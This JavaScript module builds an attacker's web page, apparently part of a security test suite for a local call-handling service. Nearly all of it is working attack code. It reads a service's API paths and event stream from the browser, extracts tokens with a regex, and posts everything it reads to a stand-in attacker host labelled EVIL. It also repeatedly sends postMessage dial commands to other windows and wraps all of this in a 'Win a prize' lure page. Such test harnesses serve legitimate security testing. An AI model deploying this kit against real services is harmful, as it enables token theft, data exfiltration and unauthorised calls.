// SPDX-License-Identifier: Apache-2.0
// kit.mjs - what every page of the attacker can do

import { EVIL } from './stage.mjs';

/** Runs in the attacker's page (or worker), so it is text there. */
function kit(id, target, number, teller) {
	const click = { PhoneNumber: number, LoggedInUserID: 'SERVICEAGENT01' };
	const body = JSON.stringify(click);
	const calls = `${target}/api/v1/calls`;
	const dialUrl = `${calls}?PhoneNumber=${encodeURIComponent(number)}`;
	const pause = (ms) => new Promise((done) => setTimeout(done, ms));
	const tell = (kind, text) => fetch(teller, {
		method: 'POST',
		mode: 'no-cors',
		keepalive: true,
		body: JSON.stringify({ id, kind, text: String(text) }),
	});
	const read = (text) => text !== '' && tell('read', text);
	const note = (text) => tell('note', text);

	/** A part of the page that loads something. */
	function add(name, fields) {
		const el = Object.assign(document.createElement(name), fields);

		document.body.append(el);
		return el;
	}

	/** All that a page could read by fetch(), the stream of events too. */
	async function steal(base, headers = {}) {
		let token = '';

		for (const path of ['/api/v1/token', '/api/v1/calls', '/metrics',
			'/api/v1/status', '/api/v1/doctor', '/docs/', '/pair',
			'/console.html', '/host.html', '/']) {
			const res = await fetch(base + path, { headers }).catch(note);

			if (res instanceof Response && 'text' in res) {
				const text = await res.text();

				read(text);
				token ||= /"token":"(\w+)"/.exec(text)?.[1] ?? '';
			}
		}
		await streamSteal(base, headers).catch(note);
		return token;
	}

	async function streamSteal(base, headers) {
		const res = await fetch(`${base}/api/v1/events`, {
			headers,
			signal: AbortSignal.timeout(1000),
		});
		const reader = res.body.getReader();
		const text = new TextDecoder();

		for (;;) {
			const { value, done } = await reader.read();

			if (done)
				return;
			read(text.decode(value));
		}
	}

	/** Posts a click again and again: the window may not be ready yet. */
	async function pester(find) {
		for (let i = 0; i < 120; i++) {
			if (i === 3)
				note('tried');
			for (const data of [click, body, { payload: click }])
				try {
					find()?.postMessage(data, '*');
				} catch (err) {
					note(err);
				}
			await pause(100);
		}
	}

	function listen() {
		addEventListener('message', (event) =>
			read(`message ${JSON.stringify(event.data)}`));
	}

	return {
		click, body, calls, dialUrl, pause, tell, read, note, add, steal,
		pester, listen, target,
	};
}

/** The names of the kit, and then script, in the attacker's page. */
export function kitScript({ id, target, number }, script) {
	const names = 'click, body, calls, dialUrl, pause, tell, read, note, ' +
		'add, steal, pester, listen, target';
	const args = [id, target, number, `${EVIL}/told`].map((value) =>
		JSON.stringify(value));

	return `const { ${names} } = (${kit})(${args.join(', ')});
		${script}`;
}

/** A page with a prize; a press on it runs script. */
export function trap(attack, script, html = '') {
	return `<!DOCTYPE html><title>prize</title>
<button id="go">Win a prize</button>${html}<script type="module">
${kitScript(attack, `document.getElementById('go').onclick = async () => {
	try {
		${script}
	} catch (err) {
		note(err);
	}
	note('tried');
};`)}</script>`;
}
